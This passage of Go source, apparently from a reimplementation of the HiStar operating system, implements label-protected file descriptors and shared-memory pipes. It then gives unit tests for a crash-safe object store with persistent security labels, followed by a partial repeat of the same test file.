	// Path is the path the descriptor was opened with (diagnostics).
	Path string
}

// fdLabel returns the label protecting descriptor and pipe segments: the
// owning user's {ur3, uw0, 1} when the process runs as a user (so related
// processes of the same user can share descriptors across fork), otherwise
// the process's own {pr3, pw0, 1}.
func (p *Process) fdLabel() label.Label {
	var l label.Label
	if p.User != nil {
		l = label.New(label.L1,
			label.P(p.User.Ur, label.L3), label.P(p.User.Uw, label.L0))
	} else {
		l = label.New(label.L1,
			label.P(p.Pr, label.L3), label.P(p.Pw, label.L0))
	}
	return p.withThreadTaint(l)
}

// newFDSegment allocates a descriptor segment in the process container.
func (p *Process) newFDSegment(flags uint64) (kernel.CEnt, error) {
	lbl := p.fdLabel()
	seg, err := p.TC.SegmentCreate(p.ProcCt, lbl, "fd segment", fdSegSize)
	if err != nil {
		return kernel.CEnt{}, mapKernelErr(err)
	}
	ce := kernel.CEnt{Container: p.ProcCt, Object: seg}
	var buf [24]byte
	binary.LittleEndian.PutUint64(buf[fdFlagsOff:], flags)
	binary.LittleEndian.PutUint64(buf[fdRefsOff:], 1)
	if err := p.TC.SegmentWrite(ce, 0, buf[:]); err != nil {
		return kernel.CEnt{}, mapKernelErr(err)
	}
	return ce, nil
}

func (p *Process) fdSeek(fd *FD) (int64, error) {
	buf, err := p.TC.SegmentRead(fd.Seg, fdSeekOff, 8)
	if err != nil {
		return 0, mapKernelErr(err)
	}
	return int64(binary.LittleEndian.Uint64(buf)), nil
}

func (p *Process) fdSetSeek(fd *FD, pos int64) error {
	var buf [8]byte
	binary.LittleEndian.PutUint64(buf[:], uint64(pos))
	return mapKernelErr(p.TC.SegmentWrite(fd.Seg, fdSeekOff, buf[:]))
}

func (p *Process) fdFlags(fd *FD) (uint64, error) {
	buf, err := p.TC.SegmentRead(fd.Seg, fdFlagsOff, 8)
	if err != nil {
		return 0, mapKernelErr(err)
	}
	return binary.LittleEndian.Uint64(buf), nil
}

// allocFD installs an FD in the process table and returns its number.
func (p *Process) allocFD(fd *FD) int {
	if fd.seekMu == nil {
		fd.seekMu = new(sync.Mutex)
	}
	p.fdMu.Lock()
	defer p.fdMu.Unlock()
	num := 0
	for {
		if _, used := p.fds[num]; !used {
			break
		}
		num++
	}
	fd.Num = num
	p.fds[num] = fd
	return num
}

// FDTable returns the numbers of the process's open descriptors.
func (p *Process) FDTable() []int {
	p.fdMu.RLock()
	defer p.fdMu.RUnlock()
	out := make([]int, 0, len(p.fds))
	for n := range p.fds {
		out = append(out, n)
	}
	return out
}

func (p *Process) getFD(num int) (*FD, error) {
	p.fdMu.RLock()
	defer p.fdMu.RUnlock()
	fd, ok := p.fds[num]
	if !ok {
		return nil, ErrBadFD
	}
	return fd, nil
}

// ---------------------------------------------------------------------------
// Pipes: a shared ring-buffer segment plus futex wakeups (the IPC benchmark
// path).  The kernel provides only shared memory and futexes; everything
// else is library convention.
// ---------------------------------------------------------------------------

// Pipe buffer segment layout.
const (
	pipeMutexOff   = 0
	pipeRdPosOff   = 8
	pipeWrPosOff   = 16
	pipeRdClosed   = 24
	pipeWrClosed   = 32
	pipeDataOff    = 64
	pipeBufferSize = 64 * 1024
)

// Pipe is one end-pair of a Unix pipe implemented on a shared segment.
type Pipe struct {
	Seg kernel.CEnt
}

// Pipe creates a unidirectional pipe and returns (readFD, writeFD).
func (p *Process) Pipe() (int, int, error) {
	lbl := p.fdLabel()
	seg, err := p.TC.SegmentCreate(p.ProcCt, lbl, "pipe buffer", pipeDataOff+pipeBufferSize)
	if err != nil {
		return -1, -1, mapKernelErr(err)
	}
	pipe := &Pipe{Seg: kernel.CEnt{Container: p.ProcCt, Object: seg}}
	rseg, err := p.newFDSegment(ORead)
	if err != nil {
		return -1, -1, err
	}
	wseg, err := p.newFDSegment(OWrite)
	if err != nil {
		return -1, -1, err
	}
	r := p.allocFD(&FD{Seg: rseg, Pipe: pipe, Path: "pipe:r"})
	w := p.allocFD(&FD{Seg: wseg, Pipe: pipe, WriteEnd: true, Path: "pipe:w"})
	return r, w, nil
}

func (p *Process) pipeWord(pipe *Pipe, off uint64) (uint64, error) {
	buf, err := p.TC.SegmentRead(pipe.Seg, int(off), 8)
	if err != nil {
		return 0, mapKernelErr(err)
	}
	return binary.LittleEndian.Uint64(buf), nil
}

func (p *Process) pipeSetWord(pipe *Pipe, off uint64, v uint64) error {
	var buf [8]byte
	binary.LittleEndian.PutUint64(buf[:], v)
	return mapKernelErr(p.TC.SegmentWrite(pipe.Seg, int(off), buf[:]))
}

// pipeWrite appends data to the pipe, blocking while the buffer is full.
func (p *Process) pipeWrite(pipe *Pipe, data []byte) (int, error) {
	written := 0
	for written < len(data) {
		rd, err := p.pipeWord(pipe, pipeRdPosOff)
		if err != nil {
			return written, err
		}
		wr, err := p.pipeWord(pipe, pipeWrPosOff)
		if err != nil {
			return written, err
		}
		rdClosed, err := p.pipeWord(pipe, pipeRdClosed)
		if err != nil {
			return written, err
		}
		if rdClosed != 0 {
			return written, ErrPipeClosed
		}
		used := wr - rd
		space := uint64(pipeBufferSize) - used
		if space == 0 {
			// Wait for the reader to drain; it wakes us via the write-pos
			// futex address after consuming.
			if err := p.TC.FutexWait(pipe.Seg, pipeWrPosOff, wr); err != nil {
				return written, mapKernelErr(err)
			}
			continue
		}
		n := uint64(len(data) - written)
		if n > space {
			n = space
		}
		for i := uint64(0); i < n; i++ {
			pos := (wr + i) % pipeBufferSize
			if err := p.TC.SegmentWrite(pipe.Seg, int(pipeDataOff+pos), data[written+int(i):written+int(i)+1]); err != nil {
				return written, mapKernelErr(err)
			}
		}
		if err := p.pipeSetWord(pipe, pipeWrPosOff, wr+n); err != nil {
			return written, err
		}
		written += int(n)
		// Wake a blocked reader.
		if _, err := p.TC.FutexWake(pipe.Seg, pipeRdPosOff, 1); err != nil {
			return written, mapKernelErr(err)
		}
	}
	return written, nil
}

// pipeRead reads up to len(buf) bytes, blocking until data is available or
// the write end is closed.
func (p *Process) pipeRead(pipe *Pipe, buf []byte) (int, error) {
	for {
		rd, err := p.pipeWord(pipe, pipeRdPosOff)
		if err != nil {
			return 0, err
		}
		wr, err := p.pipeWord(pipe, pipeWrPosOff)
		if err != nil {
			return 0, err
		}
		if rd == wr {
			wrClosed, err := p.pipeWord(pipe, pipeWrClosed)
			if err != nil {
				return 0, err
			}
			if wrClosed != 0 {
				return 0, nil // EOF
			}
			if err := p.TC.FutexWait(pipe.Seg, pipeRdPosOff, rd); err != nil {
				return 0, mapKernelErr(err)
			}
			continue
		}
		n := wr - rd
		if n > uint64(len(buf)) {
			n = uint64(len(buf))
		}
		for i := uint64(0); i < n; i++ {
			pos := (rd + i) % pipeBufferSize
			b, err := p.TC.SegmentRead(pipe.Seg, int(pipeDataOff+pos), 1)
			if err != nil {
				return 0, mapKernelErr(err)
			}
			buf[i] = b[0]
		}
		if err := p.pipeSetWord(pipe, pipeRdPosOff, rd+n); err != nil {
			return 0, err
		}
		// Wake a blocked writer.
		if _, err := p.TC.FutexWake(pipe.Seg, pipeWrPosOff, 1); err != nil {
			return int(n), mapKernelErr(err)
		}
		return int(n), nil
	}
}

// closePipeEnd records that one end of the pipe is closed and wakes waiters.
func (p *Process) closePipeEnd(fd *FD) error {
	off := uint64(pipeRdClosed)
	wake := uint64(pipeWrPosOff)
	if fd.WriteEnd {
		off = pipeWrClosed
		wake = pipeRdPosOff
	}
	if err := p.pipeSetWord(fd.Pipe, off, 1); err != nil {
		return err
	}
	_, err := p.TC.FutexWake(fd.Pipe.Seg, wake, 16)
	return mapKernelErr(err)
}
