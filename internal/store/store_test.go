package store

import (
	"bytes"
	"errors"
	"fmt"
	"testing"

	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/vclock"
)

func testStore(t *testing.T) (*Store, *disk.Disk) {
	t.Helper()
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{}) // 128 MB
	s, err := Format(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	return s, d
}

func TestPutGetDelete(t *testing.T) {
	s, _ := testStore(t)
	if err := s.Put(1, []byte("object one")); err != nil {
		t.Fatal(err)
	}
	got, err := s.Get(1)
	if err != nil || string(got) != "object one" {
		t.Fatalf("Get = %q, %v", got, err)
	}
	if err := s.Delete(1); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Get(1); !errors.Is(err, ErrNoSuchObject) {
		t.Errorf("Get after delete: %v", err)
	}
	if _, err := s.Get(999); !errors.Is(err, ErrNoSuchObject) {
		t.Errorf("Get of never-created object: %v", err)
	}
}

func TestCheckpointPersistsAcrossRemount(t *testing.T) {
	s, d := testStore(t)
	for i := uint64(0); i < 100; i++ {
		s.Put(i, []byte(fmt.Sprintf("object-%d-contents", i)))
	}
	s.Delete(50)
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}

	// Remount as after a reboot.
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	for i := uint64(0); i < 100; i++ {
		got, err := s2.Get(i)
		if i == 50 {
			if !errors.Is(err, ErrNoSuchObject) {
				t.Errorf("deleted object survived remount: %v", err)
			}
			continue
		}
		if err != nil || string(got) != fmt.Sprintf("object-%d-contents", i) {
			t.Fatalf("object %d after remount: %q, %v", i, got, err)
		}
	}
}

func TestAsyncWritesLostOnCrashSyncedSurvive(t *testing.T) {
	s, d := testStore(t)
	s.Put(1, []byte("synced data"))
	s.Put(2, []byte("async data"))
	if err := s.SyncObject(1); err != nil {
		t.Fatal(err)
	}
	// Crash: lose the disk write cache and remount without checkpointing.
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	got, err := s2.Get(1)
	if err != nil || string(got) != "synced data" {
		t.Errorf("synced object after crash: %q, %v", got, err)
	}
	if _, err := s2.Get(2); !errors.Is(err, ErrNoSuchObject) {
		t.Errorf("async object should be lost after crash, got err=%v", err)
	}
}

func TestSyncedDeleteSurvivesCrash(t *testing.T) {
	s, d := testStore(t)
	s.Put(1, []byte("to be removed"))
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	s.Delete(1)
	if err := s.SyncObject(1); err != nil {
		t.Fatal(err)
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s2.Get(1); !errors.Is(err, ErrNoSuchObject) {
		t.Errorf("synced delete should survive crash: %v", err)
	}
}

func TestGroupSyncCheaperThanPerObjectSync(t *testing.T) {
	// The single-level store's group sync should beat per-object sync by a
	// large factor on many-small-object workloads (the paper reports up to
	// ~200x for the LFS small-file benchmark).
	mk := func() (*Store, *vclock.Clock) {
		clk := &vclock.Clock{}
		d := disk.New(disk.Params{
			Sectors:              1 << 18,
			SeekTime:             8500000,
			RotationalLatency:    4150000,
			BandwidthBytesPerSec: 58e6,
			WriteCache:           true,
		}, clk)
		s, err := Format(d, Options{LogSize: 8 << 20})
		if err != nil {
			t.Fatal(err)
		}
		clk.Reset()
		return s, clk
	}
	data := bytes.Repeat([]byte("x"), 1024)

	perObj, clk1 := mk()
	for i := uint64(0); i < 200; i++ {
		perObj.Put(i, data)
		if err := perObj.SyncObject(i); err != nil {
			t.Fatal(err)
		}
	}
	perObjTime := clk1.Now()

	group, clk2 := mk()
	for i := uint64(0); i < 200; i++ {
		group.Put(i, data)
	}
	if err := group.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	groupTime := clk2.Now()

	if groupTime*10 > perObjTime {
		t.Errorf("group sync (%v) should be at least 10x cheaper than per-object sync (%v)", groupTime, perObjTime)
	}
}

func TestEvictCacheForcesDiskReads(t *testing.T) {
	s, d := testStore(t)
	payload := bytes.Repeat([]byte("y"), 4096)
	for i := uint64(0); i < 20; i++ {
		s.Put(i, payload)
	}
	s.Checkpoint()
	s.EvictCache()
	if s.Cached(3) {
		t.Error("object should have been evicted")
	}
	readsBefore := d.Stats().Reads
	got, err := s.Get(3)
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("Get after evict: %v", err)
	}
	if d.Stats().Reads == readsBefore {
		t.Error("uncached Get should have hit the disk")
	}
	if !s.Cached(3) {
		t.Error("Get should repopulate the cache")
	}
}

func TestLogFullTriggersCheckpointAndRetry(t *testing.T) {
	// A tiny log forces SyncObject to checkpoint and retry when it fills.
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 64 * 1024})
	if err != nil {
		t.Fatal(err)
	}
	payload := bytes.Repeat([]byte("z"), 8*1024)
	for i := uint64(0); i < 20; i++ {
		s.Put(i, payload)
		if err := s.SyncObject(i); err != nil {
			t.Fatalf("sync %d: %v", i, err)
		}
	}
	if s.Stats().Checkpoints == 0 {
		t.Error("expected at least one checkpoint forced by a full log")
	}
	// Everything is still readable.
	for i := uint64(0); i < 20; i++ {
		if got, err := s.Get(i); err != nil || !bytes.Equal(got, payload) {
			t.Fatalf("object %d: %v", i, err)
		}
	}
}

func TestObjectGrowthRelocatesExtent(t *testing.T) {
	s, _ := testStore(t)
	s.Put(7, []byte("small"))
	s.Checkpoint()
	big := bytes.Repeat([]byte("B"), 64*1024)
	s.Put(7, big)
	s.Checkpoint()
	got, err := s.Get(7)
	if err != nil || !bytes.Equal(got, big) {
		t.Fatalf("after growth: %v (len %d)", err, len(got))
	}
	s.EvictCache()
	got, err = s.Get(7)
	if err != nil || !bytes.Equal(got, big) {
		t.Fatalf("after growth, uncached: %v (len %d)", err, len(got))
	}
}

func TestSameSizeRewriteIsCopyOnWrite(t *testing.T) {
	// A same-size update must not be rewritten over the snapshot's extent (a
	// torn write would destroy the only copy); it relocates, and the vacated
	// extent returns to the free list, so net free space is unchanged.
	s, _ := testStore(t)
	payload := bytes.Repeat([]byte("a"), 8192)
	s.Put(3, payload)
	s.Checkpoint()
	free := s.FreeBytes()
	update := bytes.Repeat([]byte("b"), 8192)
	s.Put(3, update)
	s.Checkpoint()
	if got := s.FreeBytes(); got != free {
		t.Errorf("same-size rewrite changed free space: %d -> %d", free, got)
	}
	s.EvictCache()
	got, err := s.Get(3)
	if err != nil || !bytes.Equal(got, update) {
		t.Fatalf("rewrite: %v", err)
	}
}

func TestFreeSpaceReclaimedOnDelete(t *testing.T) {
	s, _ := testStore(t)
	before := s.FreeBytes()
	payload := bytes.Repeat([]byte("c"), 1<<20)
	for i := uint64(0); i < 10; i++ {
		s.Put(i, payload)
	}
	s.Checkpoint()
	mid := s.FreeBytes()
	if mid >= before {
		t.Fatalf("allocations did not consume space: %d -> %d", before, mid)
	}
	for i := uint64(0); i < 10; i++ {
		s.Delete(i)
	}
	s.Checkpoint()
	after := s.FreeBytes()
	if after <= mid {
		t.Errorf("deletes did not reclaim space: %d -> %d", mid, after)
	}
}

func TestCloseRejectsFurtherUse(t *testing.T) {
	s, _ := testStore(t)
	s.Put(1, []byte("x"))
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(2, []byte("y")); !errors.Is(err, ErrClosed) {
		t.Errorf("Put after close: %v", err)
	}
	if _, err := s.Get(1); !errors.Is(err, ErrClosed) {
		t.Errorf("Get after close: %v", err)
	}
}

func TestOpenRejectsUnformattedDisk(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 16}, &vclock.Clock{})
	if _, err := Open(d, Options{}); err == nil {
		t.Error("opening an unformatted disk should fail")
	}
}

func TestStatsTracking(t *testing.T) {
	s, _ := testStore(t)
	s.Put(1, []byte("a"))
	s.Get(1)
	s.SyncObject(1)
	s.Checkpoint()
	st := s.Stats()
	if st.Puts != 1 || st.Gets != 1 || st.ObjectSyncs != 1 || st.Checkpoints != 1 {
		t.Errorf("stats = %+v", st)
	}
	if st.LiveObjects != 1 {
		t.Errorf("live objects = %d", st.LiveObjects)
	}
}

func TestLabelPersistence(t *testing.T) {
	s, d := testStore(t)
	taint := label.New(label.L1, label.P(label.Category(17), label.L3))
	plain := label.New(label.L1)
	user := label.New(label.L1,
		label.P(label.Category(3), label.L3), label.P(label.Category(9), label.L0))
	if err := s.PutLabeled(1, taint, []byte("tainted file")); err != nil {
		t.Fatal(err)
	}
	if err := s.PutLabeled(2, plain, []byte("public file")); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(3, []byte("unlabeled")); err != nil {
		t.Fatal(err)
	}
	if err := s.SetLabel(3, user); err != nil {
		t.Fatal(err)
	}
	if got, ok := s.Label(1); !ok || !got.Equal(taint) {
		t.Fatalf("Label(1) = %v, %v", got, ok)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	// Reopen: labels must be restored from the checkpointed metadata in
	// canonical form, with fingerprints recomputed on load.
	r, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if r.LabelCount() != 3 {
		t.Fatalf("LabelCount = %d, want 3", r.LabelCount())
	}
	for id, want := range map[uint64]label.Label{1: taint, 2: plain, 3: user} {
		got, ok := r.Label(id)
		if !ok || !got.Equal(want) {
			t.Errorf("Label(%d) = %v, %v; want %v", id, got, ok, want)
			continue
		}
		if got.Fingerprint() != want.Fingerprint() {
			t.Errorf("Label(%d) fingerprint = %x, want %x", id, got.Fingerprint(), want.Fingerprint())
		}
		if got.RaisedFingerprint() != want.RaisedFingerprint() {
			t.Errorf("Label(%d) raised fingerprint mismatch", id)
		}
	}
	data, err := r.Get(1)
	if err != nil || string(data) != "tainted file" {
		t.Fatalf("Get(1) = %q, %v", data, err)
	}
}

func TestLabelDroppedWithDelete(t *testing.T) {
	s, _ := testStore(t)
	if err := s.PutLabeled(7, label.New(label.L2), []byte("x")); err != nil {
		t.Fatal(err)
	}
	if err := s.Delete(7); err != nil {
		t.Fatal(err)
	}
	if _, ok := s.Label(7); ok {
		t.Error("label should be dropped with the object")
	}
	if s.LabelCount() != 0 {
		t.Errorf("LabelCount = %d, want 0", s.LabelCount())
	}
}

func TestSyncObjectPersistsLabelAcrossCrash(t *testing.T) {
	// The motivating bug for the WAL label records: before labels rode in
	// the log, a crash after SyncObject resurrected the object with no
	// label at all.
	s, d := testStore(t)
	taint := label.New(label.L1, label.P(label.Category(42), label.L3))
	if err := s.PutLabeled(9, taint, []byte("secret")); err != nil {
		t.Fatal(err)
	}
	if err := s.SyncObject(9); err != nil {
		t.Fatal(err)
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	got, ok := s2.Label(9)
	if !ok || !got.Equal(taint) {
		t.Fatalf("label after crash = %v, %v; want %v", got, ok, taint)
	}
	if got.Fingerprint() != taint.Fingerprint() {
		t.Error("fingerprint not rebuilt on replay")
	}
	if ids := s2.ObjectsWithLabel(taint.Fingerprint()); len(ids) != 1 || ids[0] != 9 {
		t.Errorf("index after crash = %v", ids)
	}
	if err := s2.VerifyLabelIndex(); err != nil {
		t.Error(err)
	}
	data, err := s2.Get(9)
	if err != nil || string(data) != "secret" {
		t.Fatalf("contents after crash: %q, %v", data, err)
	}
}

func TestObjectsWithLabelUsesIndexOnly(t *testing.T) {
	s, d := testStore(t)
	taint := label.New(label.L1, label.P(label.Category(7), label.L3))
	plain := label.New(label.L1)
	for i := uint64(0); i < 50; i++ {
		lbl := plain
		if i%5 == 0 {
			lbl = taint
		}
		if err := s.PutLabeled(i, lbl, []byte{byte(i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	decodesBefore := s2.Stats().LabelDecodes
	ids := s2.ObjectsWithLabel(taint.Fingerprint())
	if len(ids) != 10 {
		t.Fatalf("tainted scan found %d objects, want 10", len(ids))
	}
	for i, id := range ids {
		if id%5 != 0 {
			t.Errorf("id %d not tainted", id)
		}
		if i > 0 && ids[i-1] >= id {
			t.Error("ids not ascending")
		}
	}
	st := s2.Stats()
	if st.LabelDecodes != decodesBefore {
		t.Errorf("taint scan deserialized labels: %d -> %d decodes", decodesBefore, st.LabelDecodes)
	}
	if st.IndexQueries == 0 {
		t.Error("IndexQueries not counted")
	}
	if st.IndexEntries != st.LabeledObjects || st.IndexEntries != 50 {
		t.Errorf("index entries = %d, labeled = %d", st.IndexEntries, st.LabeledObjects)
	}
	if err := s2.VerifyLabelIndex(); err != nil {
		t.Error(err)
	}
}

func TestSetLabelMovesIndexEntry(t *testing.T) {
	s, _ := testStore(t)
	a := label.New(label.L1, label.P(label.Category(1), label.L3))
	b := label.New(label.L1, label.P(label.Category(2), label.L3))
	if err := s.PutLabeled(3, a, []byte("x")); err != nil {
		t.Fatal(err)
	}
	if err := s.SetLabel(3, b); err != nil {
		t.Fatal(err)
	}
	if ids := s.ObjectsWithLabel(a.Fingerprint()); len(ids) != 0 {
		t.Errorf("old fingerprint still indexed: %v", ids)
	}
	if ids := s.ObjectsWithLabel(b.Fingerprint()); len(ids) != 1 || ids[0] != 3 {
		t.Errorf("new fingerprint not indexed: %v", ids)
	}
	if err := s.Delete(3); err != nil {
		t.Fatal(err)
	}
	if ids := s.ObjectsWithLabel(b.Fingerprint()); len(ids) != 0 {
		t.Errorf("deleted object still indexed: %v", ids)
	}
	if err := s.VerifyLabelIndex(); err != nil {
		t.Error(err)
	}
}

func TestOpenHonoursSuperblockGeometry(t *testing.T) {
	// Format with non-default log and metadata sizes; Open with zero
	// options must read the geometry back from the superblock.
	d := disk.New(disk.Params{Sectors: 1 << 14, WriteCache: true}, &vclock.Clock{}) // 8 MB
	s, err := Format(d, Options{LogSize: 128 << 10, MetaAreaSize: 256 << 10})
	if err != nil {
		t.Fatal(err)
	}
	lbl := label.New(label.L1, label.P(label.Category(5), label.L3))
	if err := s.PutLabeled(1, lbl, []byte("geometry")); err != nil {
		t.Fatal(err)
	}
	if err := s.SyncObject(1); err != nil {
		t.Fatal(err)
	}
	d.Crash()
	s2, err := Open(d, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if data, err := s2.Get(1); err != nil || string(data) != "geometry" {
		t.Fatalf("Get = %q, %v", data, err)
	}
	if got, ok := s2.Label(1); !ok || !got.Equal(lbl) {
		t.Fatalf("label = %v, %v", got, ok)
	}
}

func TestSyncObjectLogFullFallbackIsDurable(t *testing.T) {
	// Fill the log region until SyncObject's commit returns ErrFull and the
	// automatic Checkpoint-and-retry path runs, then crash: both the
	// checkpointed objects and the retried record (with its label) must
	// survive recovery.
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 64 * 1024})
	if err != nil {
		t.Fatal(err)
	}
	taint := label.New(label.L1, label.P(label.Category(3), label.L3))
	payload := bytes.Repeat([]byte("z"), 8*1024)
	for i := uint64(0); i < 20; i++ {
		if err := s.PutLabeled(i, taint, payload); err != nil {
			t.Fatal(err)
		}
		if err := s.SyncObject(i); err != nil {
			t.Fatalf("sync %d: %v", i, err)
		}
	}
	if s.Stats().Checkpoints == 0 {
		t.Fatal("expected the full log to force a checkpoint")
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 64 * 1024})
	if err != nil {
		t.Fatal(err)
	}
	for i := uint64(0); i < 20; i++ {
		if got, err := s2.Get(i); err != nil || !bytes.Equal(got, payload) {
			t.Fatalf("object %d after crash: %v", i, err)
		}
		if lbl, ok := s2.Label(i); !ok || !lbl.Equal(taint) {
			t.Fatalf("label %d after crash: %v, %v", i, lbl, ok)
		}
	}
	if ids := s2.ObjectsWithLabel(taint.Fingerprint()); len(ids) != 20 {
		t.Errorf("index after crash holds %d objects, want 20", len(ids))
	}
	if err := s2.VerifyLabelIndex(); err != nil {
		t.Error(err)
	}
}

func TestSyncObjectOversizeRecordFallsBackToCheckpoint(t *testing.T) {
	// A record that cannot fit even in an empty log is dropped from the log
	// (it could never commit and would wedge every later sync) and made
	// durable through the fallback checkpoint instead.
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 4096})
	if err != nil {
		t.Fatal(err)
	}
	big := bytes.Repeat([]byte("x"), 64*1024)
	taint := label.New(label.L1, label.P(label.Category(8), label.L3))
	if err := s.PutLabeled(1, taint, big); err != nil {
		t.Fatal(err)
	}
	if err := s.SyncObject(1); err != nil {
		t.Fatalf("oversize sync: %v", err)
	}
	if s.Stats().Checkpoints == 0 {
		t.Fatal("fallback checkpoint should have run")
	}
	// The log is not wedged: small syncs still work, exactly once each.
	if err := s.Put(2, []byte("small")); err != nil {
		t.Fatal(err)
	}
	if err := s.SyncObject(2); err != nil {
		t.Fatalf("small sync after oversize: %v", err)
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 4096})
	if err != nil {
		t.Fatal(err)
	}
	if got, err := s2.Get(1); err != nil || !bytes.Equal(got, big) {
		t.Fatalf("oversize object after crash: %v (%d bytes)", err, len(got))
	}
	if lbl, ok := s2.Label(1); !ok || !lbl.Equal(taint) {
		t.Fatalf("oversize object's label after crash: %v, %v", lbl, ok)
	}
	if got, err := s2.Get(2); err != nil || string(got) != "small" {
		t.Fatalf("small object after crash: %q, %v", got, err)
	}
}

func TestRecreateAfterLoggedTombstoneSurvivesResync(t *testing.T) {
	// Regression: the log can hold [data, tombstone, data] for one object.
	// Replay must clear the dead flag on the re-create, or the next
	// SyncObject logs a spurious deletion and the committed object is lost
	// on the following crash.
	s, d := testStore(t)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(s.Put(5, []byte("first")))
	must(s.SyncObject(5))
	must(s.Delete(5))
	must(s.SyncObject(5))
	must(s.Put(5, []byte("second")))
	must(s.SyncObject(5))
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	must(err)
	if got, err := s2.Get(5); err != nil || string(got) != "second" {
		t.Fatalf("after first crash: %q, %v", got, err)
	}
	// The latent bug fired only on the next sync + crash.
	must(s2.SyncObject(5))
	d.Crash()
	s3, err := Open(d, Options{LogSize: 1 << 20})
	must(err)
	if got, err := s3.Get(5); err != nil || string(got) != "second" {
		t.Fatalf("re-created object lost after resync + crash: %q, %v", got, err)
	}
}

func TestSyncAfterUnlabeledRecreateClearsCheckpointedLabel(t *testing.T) {
	// An object can lose its label with no tombstone ever logged: delete and
	// re-create between syncs.  The label-less sync record is authoritative,
	// so replay must clear the checkpointed label rather than resurrect it.
	s, d := testStore(t)
	taint := label.New(label.L1, label.P(label.Category(6), label.L3))
	if err := s.PutLabeled(5, taint, []byte("labeled")); err != nil {
		t.Fatal(err)
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	if err := s.Delete(5); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(5, []byte("reborn, unlabeled")); err != nil {
		t.Fatal(err)
	}
	if err := s.SyncObject(5); err != nil {
		t.Fatal(err)
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if got, err := s2.Get(5); err != nil || string(got) != "reborn, unlabeled" {
		t.Fatalf("Get = %q, %v", got, err)
	}
	if lbl, ok := s2.Label(5); ok {
		t.Errorf("stale checkpointed label resurrected: %v", lbl)
	}
	if ids := s2.ObjectsWithLabel(taint.Fingerprint()); len(ids) != 0 {
		t.Errorf("stale index entry: %v", ids)
	}
	if err := s2.VerifyLabelIndex(); err != nil {
		t.Error(err)
	}
}
