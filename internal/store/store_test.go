package store

import (
	"bytes"
	"errors"
	"fmt"
	"testing"

	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/vclock"
)

func testStore(t *testing.T) (*Store, *disk.Disk) {
	t.Helper()
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{}) // 128 MB
	s, err := Format(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	return s, d
}

func TestPutGetDelete(t *testing.T) {
	s, _ := testStore(t)
	if err := s.Put(1, []byte("object one")); err != nil {
		t.Fatal(err)
	}
	got, err := s.Get(1)
	if err != nil || string(got) != "object one" {
		t.Fatalf("Get = %q, %v", got, err)
	}
	if err := s.Delete(1); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Get(1); !errors.Is(err, ErrNoSuchObject) {
		t.Errorf("Get after delete: %v", err)
	}
	if _, err := s.Get(999); !errors.Is(err, ErrNoSuchObject) {
		t.Errorf("Get of never-created object: %v", err)
	}
}

func TestCheckpointPersistsAcrossRemount(t *testing.T) {
	s, d := testStore(t)
	for i := uint64(0); i < 100; i++ {
		s.Put(i, []byte(fmt.Sprintf("object-%d-contents", i)))
	}
	s.Delete(50)
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}

	// Remount as after a reboot.
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	for i := uint64(0); i < 100; i++ {
		got, err := s2.Get(i)
		if i == 50 {
			if !errors.Is(err, ErrNoSuchObject) {
				t.Errorf("deleted object survived remount: %v", err)
			}
			continue
		}
		if err != nil || string(got) != fmt.Sprintf("object-%d-contents", i) {
			t.Fatalf("object %d after remount: %q, %v", i, got, err)
		}
	}
}

func TestAsyncWritesLostOnCrashSyncedSurvive(t *testing.T) {
	s, d := testStore(t)
	s.Put(1, []byte("synced data"))
	s.Put(2, []byte("async data"))
	if err := s.SyncObject(1); err != nil {
		t.Fatal(err)
	}
	// Crash: lose the disk write cache and remount without checkpointing.
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	got, err := s2.Get(1)
	if err != nil || string(got) != "synced data" {
		t.Errorf("synced object after crash: %q, %v", got, err)
	}
